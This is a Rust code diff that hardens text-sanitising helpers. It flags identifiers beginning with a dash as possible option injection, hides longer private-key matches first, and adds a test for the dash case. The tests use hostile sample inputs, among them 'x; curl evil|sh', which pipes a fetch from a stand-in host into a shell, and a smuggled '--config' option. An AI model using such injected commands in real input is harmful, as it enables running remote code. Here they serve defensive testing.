@@ -62,10 +62,10 @@ pub fn one_line(text: &str, max: usize) -> String {
     bounded(kept, max)
 }
 
-/// True when [`one_line`] would change the text, or it is empty or longer than `max` characters: an identifier in
-/// which something may hide.
+/// True when [`one_line`] would change the text, or it is empty or longer than `max` characters, or a program would take
+/// it for an option: an identifier in which something may hide.
 pub(crate) fn is_unclean(text: &str, max: usize) -> bool {
-    text.is_empty() || one_line(text, max) != text
+    text.is_empty() || text.starts_with('-') || one_line(text, max) != text
 }
 
 /// Words of others inside of a sentence of ours: one line, at most `max` characters, in quotation marks that they cannot
@@ -94,7 +94,10 @@ pub fn may_be_key(text: &str) -> bool {
 
 /// The text without what may be a private key in it, for messages that repeat what a person set (M12).
 pub fn without_keys(text: &str) -> String {
-    key_runs(text).fold(text.to_owned(), |shown, run| shown.replace(run, "[hidden]"))
+    let mut runs: Vec<&str> = key_runs(text).collect();
+    // One that holds another goes first, or its rest would stay.
+    runs.sort_by_key(|run| std::cmp::Reverse(run.len()));
+    runs.into_iter().fold(text.to_owned(), |shown, run| shown.replace(run, "[hidden]"))
 }
 
 /// An identifier of others as one word of a command that a person types: quoted where a shell would read more into it.
@@ -131,6 +134,8 @@ mod tests {
         assert_eq!(shell_word("x; curl evil|sh"), "'x; curl evil|sh'");
         assert_eq!(shell_word("$(a)'`b`\n"), r"'$(a)'\''`b`'");
         assert_eq!(shell_word(""), "''");
+        // A program would take it for an option, however it is quoted.
+        assert!(is_unclean("--config=/tmp/x.toml", 200) && is_unclean("-x", 200) && !is_unclean("a-b", 200));
     }
 
     #[test]
